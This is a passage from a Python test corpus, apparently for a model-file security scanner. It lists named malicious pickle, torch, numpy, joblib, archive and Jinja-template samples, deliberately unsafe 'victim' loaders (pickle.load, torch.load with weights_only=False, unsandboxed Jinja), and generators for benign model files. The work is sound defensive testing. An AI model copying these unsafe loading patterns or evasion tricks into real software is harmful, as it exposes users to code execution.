        inspect_getattr_static,
        numpy_builtins_dict,
        attribute_chain_in_global_name,
        runpy_run_code,
        pkgutil_resolve_name,
        operator_attrgetter,
        marshal_code_type,
        ctypes_libc_system,
        cve_2025_10157_asyncio_submodule,
        urllib_file_url,
        io_file_write,
        pickle_reentry,
        timeit_statement,
        cprofile_run,
        numpy_testing_runstring,
        getattr_import_chain,
        payload_in_second_pickle,
        modelscan_legacy_main_pickle,
        torch_zip_data_pkl,
        torch_zip_odd_prefix,
        cve_2025_10155_pickle_named_bin,
        cve_2025_1944_zip_name_mismatch,
        cve_2025_1945_zip_flag_bits,
        cve_2025_10156_zip_bad_crc,
        duplicate_data_pkl,
        npy_object_array,
        npz_object_array,
        joblib_payload,
        joblib_gzip,
        joblib_bz2,
        joblib_xz,
        cve_2025_1889_nonstandard_extension_in_zip,
        wheel_with_pickle,
        nested_zip_in_tar_gz,
        c_strtol_number_literals,
        overlong_int_line,
        overlong_dotted_global_name,
        sklearn_reexported_gzipfile,
        joblib_object_dtype_spelled_out,
        joblib_void_dtype_flagged_object,
        joblib_alignment_flag_not_int,
        joblib_wrapper_fields_from_init,
        joblib_legacy_wrapper_loads_named_file,
        npy_descr_object_spelled_out,
        string_first_stack_global_as_txt,
        protocol0_none_pop_as_merges,
        protocol0_unicode_first_as_markdown,
        proto_in_the_middle_as_bin,
        binint_first_short_unicode_as_bin,
        inst_after_mark_as_vocab,
        pickle_named_safetensors,
        protocol5_framed_with_out_of_band_buffer,
        protocol1_binput_binget_call,
        torch_zip_protocol0_data_pkl,
        legacy_torch_payload_in_storage_keys,
        legacy_torch_tar,
        npy_version3_object_array,
        npz_deflated_object_array,
        joblib_zlib_compressed,
        nested_pickle_zlib_in_bytes,
        pickle_named_config_json,
        torch_zip_named_onnx,
        pickle_named_tokenizer_model,
        torch_fx_graph_module_reduce,
        copyreg_extension_registered_in_stream,
        torch_zip_data_descriptors,
        uuid_get_command_stdout,
        npz_structured_object_field_member_without_suffix,
        release_zip_duplicate_name_last_wins,
        pickled_storage_bytes_with_payload,
        tokenizer_config_template_computed_names,
        cve_2024_34359_gguf_template_computed_names,
    )
}

_TORCH = {
    "modelscan_legacy_main_pickle",
    "torch_zip_data_pkl",
    "torch_zip_odd_prefix",
    "cve_2025_10155_pickle_named_bin",
    "cve_2025_1944_zip_name_mismatch",
    "cve_2025_1945_zip_flag_bits",
    "cve_2025_10156_zip_bad_crc",
    "duplicate_data_pkl",
    "torch_zip_protocol0_data_pkl",
    "legacy_torch_payload_in_storage_keys",
    "legacy_torch_tar",
    "torch_zip_named_onnx",
    "torch_fx_graph_module_reduce",
    "torch_zip_data_descriptors",
}
_OTHER = {
    "payload_in_second_pickle": "pickle-all",
    "npy_object_array": "numpy",
    "npz_object_array": "numpy",
    "joblib_payload": "joblib",
    "joblib_gzip": "joblib",
    "joblib_bz2": "joblib",
    "joblib_xz": "joblib",
    "cve_2025_1889_nonstandard_extension_in_zip": "archive",
    "wheel_with_pickle": "archive",
    "nested_zip_in_tar_gz": "archive",
    "joblib_object_dtype_spelled_out": "joblib",
    "joblib_void_dtype_flagged_object": "joblib",
    "joblib_alignment_flag_not_int": "joblib",
    "joblib_wrapper_fields_from_init": "joblib",
    "joblib_legacy_wrapper_loads_named_file": "joblib",
    "npy_descr_object_spelled_out": "numpy",
    "npy_version3_object_array": "numpy",
    "npz_deflated_object_array": "numpy",
    "joblib_zlib_compressed": "joblib",
    "npz_structured_object_field_member_without_suffix": "numpy",
    "release_zip_duplicate_name_last_wins": "archive",
    "pickled_storage_bytes_with_payload": "pickle",
    "tokenizer_config_template_computed_names": "jinja",
    "cve_2024_34359_gguf_template_computed_names": "gguf-jinja",
}
#: how a victim loads each malicious sample (see load_code)
LOADER: dict[str, str] = {
    name: "torch" if name in _TORCH else _OTHER.get(name, "pickle") for name in MALICIOUS
}

_ARCHIVE_LOADER = """
import gzip, io, pickle, sys, tarfile, zipfile
def members(data):
    if data[:2] == b"\\x1f\\x8b":
        yield from members(gzip.decompress(data))
    elif data[:4] == b"PK\\x03\\x04":
        with zipfile.ZipFile(io.BytesIO(data)) as zf:
            for name in zf.namelist():
                yield from members(zf.read(name))
    elif len(data) > 262 and data[257:262] == b"ustar":
        with tarfile.open(fileobj=io.BytesIO(data)) as tf:
            for info in tf.getmembers():
                if info.isfile():
                    yield from members(tf.extractfile(info).read())
    else:
        yield data
for data in members(open(sys.argv[1], "rb").read()):
    if data[:1] == b"\\x80":
        pickle.loads(data)
"""
_LOAD_CODE = {
    "pickle": "import pickle, sys; pickle.load(open(sys.argv[1], 'rb'))",
    "pickle-all": (
        "import pickle, sys\nf = open(sys.argv[1], 'rb')\nwhile f.peek(1):\n    pickle.load(f)"
    ),
    "torch": "import sys, torch; torch.load(sys.argv[1], weights_only=False)",
    "numpy": (
        "import sys, numpy\nx = numpy.load(sys.argv[1], allow_pickle=True)\n"
        "if hasattr(x, 'files'):\n    [x[k] for k in x.files]"
    ),
    "joblib": "import sys, joblib; joblib.load(sys.argv[1])",
    "archive": _ARCHIVE_LOADER,
    # a chat template rendered by a non-sandboxed Jinja environment
    "jinja": (
        "import json, sys, jinja2\ntemplate = json.load(open(sys.argv[1]))['chat_template']\n"
        "jinja2.Environment().from_string(template).render(messages=[{'role': 'user', "
        "'content': 'hi'}])"
    ),
    "gguf-jinja": (
        "import sys, gguf, jinja2\nfield = gguf.GGUFReader(sys.argv[1]).fields["
        "'tokenizer.chat_template']\ntemplate = bytes(field.parts[field.data[0]]).decode()\n"
        "jinja2.Environment().from_string(template).render(messages=[{'role': 'user', "
        "'content': 'hi'}])"
    ),
}
#: after loading, wait for children a payload started (asyncio) so the marker check is exact
_WAIT_CHILDREN = """
import os
try:
    while True:
        os.waitpid(-1, 0)
except ChildProcessError:
    pass
"""


def load_code(kind: str) -> str:
    """Python source that loads `sys.argv[1]` the way a victim would."""
    return _LOAD_CODE[kind] + "\n" + _WAIT_CHILDREN


# -- benign real files ---------------------------------------------------------------------------


def _torch_save(folder: Path, name: str, obj: object, legacy: bool) -> Path:
    import torch

    path = folder / name
    torch.save(obj, path, _use_new_zipfile_serialization=not legacy)
    return path


def _transformer_state() -> object:
    import torch

    torch.manual_seed(0)
    layer = torch.nn.TransformerEncoderLayer(d_model=32, nhead=4, dim_feedforward=64)
    return layer.state_dict()


def _cnn_state() -> object:
    import torch
    from torch import nn

    torch.manual_seed(0)
    model = nn.Sequential(
        nn.Conv2d(3, 8, 3),
        nn.BatchNorm2d(8),
        nn.ReLU(),
        nn.MaxPool2d(2),
        nn.Conv2d(8, 16, 3),
        nn.Flatten(),
        nn.Linear(16 * 4 * 4, 10),
    )
    return model.state_dict()


def _lstm_state() -> object:
    import torch

    torch.manual_seed(0)
    return torch.nn.LSTM(16, 32, num_layers=2, bidirectional=True).state_dict()


def _tied_embedding_state() -> object:
    import torch
    from torch import nn

    torch.manual_seed(0)
    embed = nn.Embedding(100, 16)
    head = nn.Linear(16, 100, bias=False)
    head.weight = embed.weight
    model = nn.ModuleDict({"embed": embed, "head": head})
    return model.state_dict()


def _checkpoint_state() -> object:
    """A training checkpoint: state dict, optimizer state, epoch, bfloat16 and int tensors."""
    import torch

    torch.manual_seed(0)
    model = torch.nn.Linear(8, 4)
    optimizer = torch.optim.Adam(model.parameters())
    model(torch.randn(2, 8)).sum().backward()
    optimizer.step()
    return {
        "model": model.state_dict(),
        "optimizer": optimizer.state_dict(),
        "epoch": 3,
        "extra": {"bf16": torch.ones(3, dtype=torch.bfloat16), "ids": torch.arange(5)},
    }


def _torch_sample(state: Callable[[], object], legacy: bool) -> Sample:
    def make(folder: Path) -> Path:
        suffix = "legacy.pt" if legacy else "pt"
        return _torch_save(folder, f"{state.__name__.strip('_')}.{suffix}", state(), legacy)

    return make


def numpy_array_npy(folder: Path) -> Path:
    import numpy as np

    path = folder / "array.npy"
    np.save(path, np.arange(100, dtype=np.float32).reshape(10, 10))
    return path


def numpy_arrays_npz(folder: Path) -> Path:
    import numpy as np

    path = folder / "arrays.npz"
    np.savez(path, a=np.zeros(4), b=np.ones((2, 3), dtype=np.int16))
    return path


def numpy_array_pickle(folder: Path) -> Path:
    import pickle

    import numpy as np

    path = folder / "arrays.pkl"
    value = {"w": np.arange(12, dtype=np.float64).reshape(3, 4), "s": np.float32(1.5)}
    path.write_bytes(pickle.dumps(value, protocol=4))
    return path


def numpy_array_pickle_protocol2(folder: Path) -> Path:
    import pickle

    import numpy as np

    path = folder / "arrays_p2.pkl"
    path.write_bytes(pickle.dumps([np.ones(3, dtype=np.int8), np.dtype("<f4")], protocol=2))
    return path


def joblib_numpy(folder: Path) -> Path:
    import joblib
    import numpy as np

    path = folder / "arrays.joblib"
    joblib.dump({"w": np.arange(1000, dtype=np.float32), "b": np.zeros(3)}, path)
    return path


def _sklearn_models() -> list[object]:
    import numpy as np
    from sklearn.ensemble import RandomForestClassifier
    from sklearn.linear_model import LogisticRegression
    from sklearn.pipeline import make_pipeline
    from sklearn.preprocessing import StandardScaler

    rng = np.random.default_rng(0)
    x = rng.normal(size=(60, 4))
    y = (x[:, 0] > 0).astype(int)
    return [
        make_pipeline(StandardScaler(), LogisticRegression()).fit(x, y),
        RandomForestClassifier(n_estimators=3, random_state=0).fit(x, y),
    ]


def sklearn_joblib(folder: Path) -> Path:
    import joblib

    path = folder / "sklearn.joblib"
    joblib.dump(_sklearn_models(), path)
    return path


def sklearn_pickle(folder: Path) -> Path:
    import pickle

    path = folder / "sklearn.pkl"
    path.write_bytes(pickle.dumps(_sklearn_models(), protocol=5))
    return path


def _torchscript_module(kind: str) -> object:
    """A small model with submodules and buffers, as torch.jit writes it."""
    import warnings

    import torch
    from torch import nn

    torch.manual_seed(0)
    model = nn.Sequential(nn.Conv1d(1, 4, 3), nn.BatchNorm1d(4), nn.ReLU(), nn.Flatten())
    model = nn.Sequential(model, nn.LSTM(24, 8, batch_first=True)).eval()
    if kind == "trace":
        return torch.jit.trace(model[0], torch.randn(2, 1, 8))
    if kind == "freeze":
        return torch.jit.freeze(torch.jit.script(model))
    if kind == "quantized":
        with warnings.catch_warnings():
            warnings.simplefilter("ignore")  # eager quantization is deprecated, still written
            lin = nn.Sequential(nn.Linear(8, 8), nn.ReLU(), nn.Linear(8, 2))
            q = torch.ao.quantization.quantize_dynamic(lin, {nn.Linear}, dtype=torch.qint8)
            return torch.jit.script(q)
    return torch.jit.script(model)


def _torchscript_sample(kind: str) -> Sample:
    def make(folder: Path) -> Path:
        import torch

        path = folder / f"torchscript_{kind}.pt"
        torch.jit.save(_torchscript_module(kind), str(path))
        return path

    return make


def _whole_model() -> object:
    """torch.save(model): the module classes themselves are pickled (torch.nn's own here)."""
    import torch
    from torch import nn

    torch.manual_seed(0)
    return nn.Sequential(
        nn.Embedding(50, 16),
        nn.TransformerEncoderLayer(16, 2, 32, activation="gelu"),
        nn.LayerNorm(16),
        nn.Linear(16, 50),
    )


def _quantized_state() -> object:
    import torch

    torch.manual_seed(0)
    return {
        "q": torch.quantize_per_tensor(torch.randn(4, 4), 0.1, 10, torch.quint8),
        "qc": torch.quantize_per_channel(
            torch.randn(4, 4), torch.full((4,), 0.1), torch.zeros(4), 0, torch.qint8
        ),
    }


def _training_state() -> object:
    """What training loops save beside the weights: optimizer and scheduler state, a gradient
    scaler, RNG states, and the run's configuration as standard-library objects."""
    import argparse
    import collections
    import datetime
    import pathlib
    import random

    import numpy as np
    import torch

    torch.manual_seed(0)
    model = torch.nn.Linear(4, 2)
    optimizer = torch.optim.SGD(model.parameters(), lr=0.1, momentum=0.9)
    scheduler = torch.optim.lr_scheduler.OneCycleLR(optimizer, 1.0, total_steps=10)
    model(torch.randn(3, 4)).sum().backward()
    optimizer.step()
    scheduler.step()
    return {
        "optimizer": optimizer.state_dict(),
        "scheduler": scheduler.state_dict(),
        "scaler": torch.amp.GradScaler("cpu").state_dict(),
        "rng": {"torch": torch.get_rng_state(), "numpy": np.random.get_state()},
        "python_rng": random.Random(0).getstate(),
        "args": argparse.Namespace(lr=0.1, out=pathlib.PurePosixPath("runs/1")),
        "saved_at": datetime.datetime(2026, 1, 1, tzinfo=datetime.UTC),
        "metrics": collections.defaultdict(list, {"loss": [0.5, 0.25]}),
    }


def torch_export_pt2(folder: Path) -> Path:
    import torch

    torch.manual_seed(0)
    model = torch.nn.Sequential(torch.nn.Linear(3, 4), torch.nn.ReLU())
    path = folder / "exported.pt2"
    torch.export.save(torch.export.export(model, (torch.randn(2, 3),)), path)
    return path


def numpy_structured_fortran_npy(folder: Path) -> Path:
    import numpy as np

    path = folder / "structured.npy"
    record = np.dtype([("id", "<i4"), ("xy", "<f8", (2,)), ("name", "S5"), ("c", "<c8")])
    np.save(path, np.asfortranarray(np.zeros((3, 2), dtype=record)))
    return path


def _sklearn_more_models() -> list[object]:
    """Estimators whose pickles name more than classes: a RandomState, numpy scalar types and
    ufuncs as parameters, private helper classes, neighbour trees, masked arrays."""
    import numpy as np
    from sklearn.calibration import CalibratedClassifierCV
    from sklearn.compose import ColumnTransformer
    from sklearn.ensemble import HistGradientBoostingClassifier, RandomForestClassifier
    from sklearn.feature_extraction.text import TfidfVectorizer
    from sklearn.linear_model import LogisticRegression
    from sklearn.model_selection import GridSearchCV
    from sklearn.neighbors import KNeighborsClassifier
    from sklearn.preprocessing import FunctionTransformer, OneHotEncoder
    from sklearn.tree import DecisionTreeClassifier

    rng = np.random.default_rng(0)
    x = rng.normal(size=(60, 4))
    y = (x[:, 0] > 0).astype(int)
    cats = np.c_[x[:, :2], (x[:, 2] > 0).astype(int)]
    return [
        RandomForestClassifier(3, random_state=np.random.RandomState(0)).fit(x, y),
        CalibratedClassifierCV(LogisticRegression(), cv=2).fit(x, y),
        HistGradientBoostingClassifier(max_iter=3).fit(x, y),
        KNeighborsClassifier().fit(x, y),
        TfidfVectorizer().fit(["a small corpus", "of two documents"]),
        ColumnTransformer([("onehot", OneHotEncoder(), [2])]).fit(cats),
        FunctionTransformer(np.log1p).fit(np.abs(x)),
        GridSearchCV(DecisionTreeClassifier(), {"max_depth": [1, 2]}, cv=2).fit(x, y),
    ]


def torch_tensors_plain_pickle(folder: Path) -> Path:
    """Tensors through pickle.dumps, not torch.save: each storage is a legacy torch.save inside a
    `torch.storage._load_from_bytes` bytes argument, read as one."""
    import pickle

    import torch

    torch.manual_seed(0)
    path = folder / "tensors.pkl"
    path.write_bytes(pickle.dumps({"w": torch.randn(3, 2), "b": torch.zeros(2)}, protocol=4))
    return path


def sklearn_more_joblib(folder: Path) -> Path:
    import joblib

    path = folder / "sklearn_more.joblib"
    joblib.dump(_sklearn_more_models(), path)
    return path


BENIGN: dict[str, Sample] = {
    "torch_transformer_zip": _torch_sample(_transformer_state, legacy=False),
    "torch_transformer_legacy": _torch_sample(_transformer_state, legacy=True),
    "torch_cnn_zip": _torch_sample(_cnn_state, legacy=False),
    "torch_cnn_legacy": _torch_sample(_cnn_state, legacy=True),
    "torch_lstm_zip": _torch_sample(_lstm_state, legacy=False),
    "torch_lstm_legacy": _torch_sample(_lstm_state, legacy=True),
    "torch_tied_embedding_zip": _torch_sample(_tied_embedding_state, legacy=False),
    "torch_tied_embedding_legacy": _torch_sample(_tied_embedding_state, legacy=True),
    "torch_checkpoint_zip": _torch_sample(_checkpoint_state, legacy=False),
    "torch_checkpoint_legacy": _torch_sample(_checkpoint_state, legacy=True),
    "torchscript_script": _torchscript_sample("script"),
    "torchscript_trace": _torchscript_sample("trace"),
    "torchscript_frozen": _torchscript_sample("freeze"),
    "torchscript_quantized": _torchscript_sample("quantized"),
    "numpy_array_npy": numpy_array_npy,
    "numpy_arrays_npz": numpy_arrays_npz,
    "numpy_array_pickle": numpy_array_pickle,
    "numpy_array_pickle_protocol2": numpy_array_pickle_protocol2,
    "joblib_numpy": joblib_numpy,
    "sklearn_joblib": sklearn_joblib,
    "sklearn_pickle": sklearn_pickle,
    "torch_whole_model_zip": _torch_sample(_whole_model, legacy=False),
    "torch_whole_model_legacy": _torch_sample(_whole_model, legacy=True),
    "torch_quantized_legacy": _torch_sample(_quantized_state, legacy=True),
    "torch_training_state_zip": _torch_sample(_training_state, legacy=False),
    "torch_export_pt2": torch_export_pt2,
    "numpy_structured_fortran_npy": numpy_structured_fortran_npy,
    "sklearn_more_joblib": sklearn_more_joblib,
    "torch_tensors_plain_pickle": torch_tensors_plain_pickle,
}
